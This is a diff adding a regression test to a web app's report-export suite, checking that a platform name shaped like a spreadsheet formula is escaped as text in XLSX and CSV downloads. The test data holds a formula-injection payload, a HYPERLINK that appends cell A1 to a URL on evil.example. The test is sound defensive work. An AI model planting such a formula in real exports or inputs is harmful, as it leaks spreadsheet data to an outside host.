@@ -287,6 +287,30 @@ def test_public_month_shows_no_platform_table_and_staff_do(app, client, auth, ci
     assert [city.platform_name, "1", "0", "0", "0", "0"] in rows
 
 
+def test_a_platform_named_like_a_formula_is_text_in_every_report_download(
+        app, client, auth, city):  # type: ignore[no-untyped-def]
+    """Issue 12, item 9: the name used to become a live formula in the month's workbook."""
+    import sqlalchemy as sa
+
+    from consult_hub.models import Platform
+
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    with app.app_context():
+        db.session.execute(sa.update(Platform).where(Platform.name == city.platform_name)
+                           .values(name=trap))
+        db.session.commit()
+    freeze_2024(app)
+    auth.login("jiangan")
+    answer = client.get("/manage/reports/2024-07/download.xlsx")
+    assert answer.status_code == 200
+    book = load_workbook(io.BytesIO(answer.data))
+    names = [cell for cell in book["各平台"]["A"] if cell.value and "HYPERLINK" in str(cell.value)]
+    assert [(c.value, c.data_type) for c in names] == [("'" + trap, "s")]
+    assert book["各平台"]["A1"].font.bold and book["各平台"].freeze_panes == "B2"
+    table = client.get("/manage/reports/2024-07/download.csv?table=platforms")
+    assert ["'" + trap] == [row[0] for row in csv_rows(table.data) if "HYPERLINK" in row[0]]
+
+
 # --- Who may read what -------------------------------------------------------------------
 
 
